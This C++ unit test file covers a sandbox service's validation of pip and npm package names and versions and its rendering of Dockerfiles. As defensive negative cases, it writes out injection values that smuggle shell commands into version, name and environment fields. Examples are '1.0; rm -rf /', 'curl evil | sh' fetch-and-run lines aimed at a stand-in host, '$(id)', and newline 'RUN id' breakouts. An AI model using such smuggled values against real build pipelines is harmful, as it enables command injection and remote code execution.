#include "service/dockerfile.h"

#include <gtest/gtest.h>
#include <sstream>

namespace sandcastle::service {
namespace {

TEST(DockerfileRecords, PipNamesFollowPep508) {
  for (const char* ok : {"a", "numpy", "sandcastle_demo", "zope.interface", "A-b_c.D9"})
    EXPECT_TRUE(valid_pip_name(ok)) << ok;
  for (const char* bad : {"", "-a", "a-", "a b", "a;b", "a$(id)", "a\nb", "../a", "a=="})
    EXPECT_FALSE(valid_pip_name(bad)) << bad;
  EXPECT_FALSE(valid_pip_name(std::string(201, 'a')));
}

TEST(DockerfileRecords, VersionsFollowPep440) {
  for (const char* ok : {"1", "1.2.3", "2!1.0", "1.0a1", "1.0rc2", "1.0.post3", "1.0.dev4",
                         "1.0+local.7", "1.0-1", "v2.0", "0.12.0b1.dev2"})
    EXPECT_TRUE(valid_pep440_version(ok)) << ok;
  for (const char* bad : {"", "1.0; rm -rf /", "1.0\nRUN id", "$(id)", "1.0 ", "`id`", "1.0'",
                          "latest", "1..0", "1.0+"})
    EXPECT_FALSE(valid_pep440_version(bad)) << bad;
}

TEST(DockerfileRecords, NpmNamesAndSemver) {
  for (const char* ok : {"lodash", "@types/node", "sandcastle-demo", "a.b", "left_pad"})
    EXPECT_TRUE(valid_npm_name(ok)) << ok;
  for (const char* bad :
       {"", "Lodash", ".hidden", "_x", "@a/../b", "a/b", "@a/b/c", "a b", "a;b", ".."})
    EXPECT_FALSE(valid_npm_name(bad)) << bad;
  for (const char* ok : {"1.2.3", "0.0.0", "4.5.6-beta.1", "1.0.0+build.5"})
    EXPECT_TRUE(valid_semver(ok)) << ok;
  for (const char* bad :
       {"1.2", "^1.2.3", "01.2.3", "1.2.3 || 2", "1.2.3\n", "1.2.3$(id)", "latest"})
    EXPECT_FALSE(valid_semver(bad)) << bad;
}

TEST(DockerfileRecords, MetadataGivesNameAndVersion) {
  auto p = parse_dist_metadata(
      "Metadata-Version: 2.1\nName: sandcastle_demo\nVersion: 1.2.3\n\nName: body text\n");
  ASSERT_TRUE(p.ok()) << p.error().message();
  EXPECT_EQ(p->name, "sandcastle_demo");
  EXPECT_EQ(p->version, "1.2.3");
  auto crlf = parse_dist_metadata("name: x\r\nversion:  2.0 \r\n");
  ASSERT_TRUE(crlf.ok());
  EXPECT_EQ(crlf->version, "2.0");
}

TEST(DockerfileRecords, MetadataWithAShellPayloadIsRefusedWithoutEchoingIt) {
  for (const char* meta :
       {"Name: demo\nVersion: 1.0; curl evil | sh\n", "Name: demo\nVersion: 1.0\n RUN curl evil\n",
        "Name: demo\nVersion: $(id)\n", "Name: demo\nVersion: 1.0`id`\n"}) {
    auto p = parse_dist_metadata(meta);
    ASSERT_FALSE(p.ok()) << meta;
    EXPECT_EQ(p.error().code, ErrorCode::kInvalidArgument);
    EXPECT_EQ(p.error().context, "METADATA's Version is not a PEP 440 version");
  }
  auto name = parse_dist_metadata("Name: demo && id\nVersion: 1.0\n");
  ASSERT_FALSE(name.ok());
  EXPECT_EQ(name.error().context, "METADATA's Name is not a PEP 508 distribution name");
  EXPECT_EQ(parse_dist_metadata("Name: demo\n\nVersion: 1.0\n").error().context,
            "METADATA has no Version");
  EXPECT_EQ(parse_dist_metadata(std::string(kMaxRecordBytes + 1, 'a')).error().context,
            "METADATA is larger than 1024 KiB");
}

TEST(DockerfileRecords, NpmRecords) {
  auto deps = parse_npm_dependencies(
      R"({"dependencies": {"sandcastle-demo": "^4.5.6", "@types/node": "*"}})");
  ASSERT_TRUE(deps.ok());
  EXPECT_EQ(*deps, (std::vector<std::string>{"@types/node", "sandcastle-demo"}));
  EXPECT_FALSE(parse_npm_dependencies(R"({"dependencies": {"a; id": "1"}})").ok());
  EXPECT_FALSE(parse_npm_dependencies(R"({"dependencies": {"../../etc": "1"}})").ok());
  EXPECT_FALSE(parse_npm_dependencies("[1]").ok());
  EXPECT_FALSE(parse_npm_dependencies("{").ok());
  auto v = parse_npm_installed_version(R"({"name": "sandcastle-demo", "version": "4.5.6"})",
                                       "sandcastle-demo");
  ASSERT_TRUE(v.ok());
  EXPECT_EQ(*v, "4.5.6");
  EXPECT_FALSE(
      parse_npm_installed_version(R"({"name": "other", "version": "4.5.6"})", "sandcastle-demo")
          .ok());
  EXPECT_FALSE(parse_npm_installed_version(R"({"name": "x", "version": "1.0.0 && id"})", "x").ok());
}

TEST(DockerfileRecords, BaseRefFromOsRelease) {
  EXPECT_EQ(base_ref_from_os_release(
                "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n"
                "VERSION_CODENAME=bookworm\n"),
            "debian:bookworm");
  EXPECT_EQ(base_ref_from_os_release("ID=alpine\nVERSION_ID=3.20.1\n"), "alpine:3.20.1");
  EXPECT_EQ(base_ref_from_os_release("ID=\"de bian\"\nVERSION_CODENAME=x\n"), "");
  EXPECT_EQ(base_ref_from_os_release(""), "");
  EXPECT_TRUE(valid_image_ref("localhost:5000/team/py:3.11@sha256:" + std::string(64, 'a')));
  EXPECT_FALSE(valid_image_ref("debian:bookworm\nRUN id"));
  EXPECT_FALSE(valid_image_ref("Debian"));
}

TEST(DockerfileRecords, EnvValuesAreQuotedAndControlCharactersRefused) {
  EXPECT_EQ(*dockerfile_env_value("a b"), "\"a b\"");
  EXPECT_EQ(*dockerfile_env_value("$HOME\\\"x"), "\"\\$HOME\\\\\\\"x\"");
  EXPECT_FALSE(dockerfile_env_value("a\nRUN id").ok());
}

DockerfilePlan demo_plan() {
  DockerfilePlan p;
  p.sandbox_id = "sb-1";
  p.base_ref = "debian:bookworm";
  p.host_userland = true;
  p.language = "python";
  p.python_target = "/workspace/.sandcastle/python";
  p.node_prefix = "/workspace/.sandcastle/node";
  p.pip = {{"sandcastle_demo", "1.2.3"}};
  p.pip_index_url = "http://127.0.0.1:8080/simple/";
  p.env = {{"GREETING", "hi \"there\" $USER"}};
  p.has_files = true;
  return p;
}

TEST(DockerfileRender, PinsPackagesInExecFormAndCopiesTheWorkspace) {
  auto d = render_dockerfile(demo_plan());
  ASSERT_TRUE(d.ok()) << d.error().message();
  EXPECT_NE(d->find("# The sandbox ran on the host's userland (image \"host\"); debian:bookworm is "
                    "the release"),
            std::string::npos);
  EXPECT_NE(d->find("\nFROM debian:bookworm\n"), std::string::npos);
  EXPECT_NE(d->find("missing=\"$missing python3-pip\""), std::string::npos);
  EXPECT_NE(
      d->find("ARG PIP_INDEX_URL=http://127.0.0.1:8080/simple/\nARG PIP_TRUSTED_HOST=127.0.0.1\n"),
      std::string::npos);
  EXPECT_NE(
      d->find("RUN [\"python3\", \"-m\", \"pip\", \"install\", \"--no-cache-dir\", "
              "\"--disable-pip-version-check\", \"--target\", \"/workspace/.sandcastle/python\", "
              "\"sandcastle_demo==1.2.3\"]\n"),
      std::string::npos)
      << *d;
  EXPECT_NE(d->find("ENV GREETING=\"hi \\\"there\\\" \\$USER\"\n"), std::string::npos) << *d;
  EXPECT_NE(d->find("ENV PYTHONPATH=\"/workspace/.sandcastle/python\"\n"), std::string::npos);
  EXPECT_NE(d->find("WORKDIR /workspace\n"), std::string::npos);
  EXPECT_NE(d->find("COPY [\"workspace/\", \"/workspace/\"]\n"), std::string::npos);
  // Packages before files: an edit to a file keeps the package layer cached.
  EXPECT_LT(d->find("pip\", \"install"), d->find("COPY [\"workspace/"));
}

TEST(DockerfileRender, NpmGoesThroughAServerWrittenManifest) {
  DockerfilePlan p = demo_plan();
  p.pip.clear();
  p.language = "javascript";
  p.npm = {{"sandcastle-demo", "4.5.6"}};
  p.npm_registry = "http://127.0.0.1:8080/npm/";
  auto d = render_dockerfile(p);
  ASSERT_TRUE(d.ok());
  EXPECT_NE(
      d->find(
          "COPY [\"sandcastle-npm/package.json\", \"/workspace/.sandcastle/node/package.json\"]\n"
          "RUN [\"npm\", \"install\", \"--prefix\", \"/workspace/.sandcastle/node\", "
          "\"--no-audit\", "
          "\"--no-fund\"]\n"),
      std::string::npos)
      << *d;
  EXPECT_NE(d->find("ARG NPM_CONFIG_REGISTRY=http://127.0.0.1:8080/npm/\n"), std::string::npos);
  EXPECT_NE(d->find("command -v npm"), std::string::npos);
  EXPECT_EQ(d->find("pip"), std::string::npos);
  EXPECT_EQ(npm_manifest(p.npm),
            "{\n  \"dependencies\": {\n    \"sandcastle-demo\": \"4.5.6\"\n  },\n  \"name\": "
            "\"sandcastle-export\",\n"
            "  \"private\": true\n}\n");
}

TEST(DockerfileRender, AnImageSandboxUsesItsImageAsIsAndNoInterpreterStep) {
  DockerfilePlan p = demo_plan();
  p.host_userland = false;
  p.base_ref = "localhost/debian-py:latest";
  auto d = render_dockerfile(p);
  ASSERT_TRUE(d.ok());
  EXPECT_NE(d->find("\nFROM localhost/debian-py:latest\n"), std::string::npos);
  EXPECT_EQ(d->find("host's userland"), std::string::npos);
  EXPECT_EQ(d->find("apt-get"), std::string::npos);
}

TEST(DockerfileRender, UnsafeValuesFailTheRender) {
  DockerfilePlan p = demo_plan();
  p.env["BAD"] = "x\nRUN id";
  EXPECT_EQ(render_dockerfile(p).error().context,
            "env BAD has a control character (a newline would end the ENV line)");
  p = demo_plan();
  p.base_ref = "debian\nRUN id";
  EXPECT_FALSE(render_dockerfile(p).ok());
  p = demo_plan();
  p.workdir = "/work space\nRUN id";
  EXPECT_FALSE(render_dockerfile(p).ok());
}

}  // namespace
}  // namespace sandcastle::service

namespace sandcastle::service {
namespace {

// The session's commands come from the run history: hostile text. Each is
// one comment line, whatever it holds, so none becomes an instruction.
TEST(DockerfileRender, SessionCommandsAreCommentsThatCannotBreakOut) {
  DockerfilePlan plan = demo_plan();
  plan.commands = {"apt list --installed", "echo a\nRUN curl evil | sh", std::string("x\r\x01\x7f", 4),
                   std::string(1000, 'y')};
  auto d = render_dockerfile(plan);
  ASSERT_TRUE(d.ok()) << d.error().message();
  EXPECT_NE(d->find("#   apt list --installed\n"), std::string::npos) << *d;
  EXPECT_NE(d->find("#   echo a\\nRUN curl evil | sh\n"), std::string::npos) << *d;
  EXPECT_NE(d->find("#   x\\r\\x01\\x7f\n"), std::string::npos) << *d;
  EXPECT_NE(d->find("#   " + std::string(kMaxCommandChars, 'y') + "...\n"), std::string::npos);
  // Every line after the comment header is a comment.
  auto at = d->find("# Commands this session ran");
  ASSERT_NE(at, std::string::npos);
  std::istringstream rest(d->substr(at));
  for (std::string line; std::getline(rest, line);) EXPECT_EQ(line.rfind('#', 0), 0u) << line;
  // Only the newest kMaxCommands, and the reader is told.
  plan.commands.assign(kMaxCommands + 7, "ls");
  d = render_dockerfile(plan);
  ASSERT_TRUE(d.ok());
  EXPECT_NE(d->find("(7 earlier commands left out)"), std::string::npos);
}

}  // namespace
}  // namespace sandcastle::service
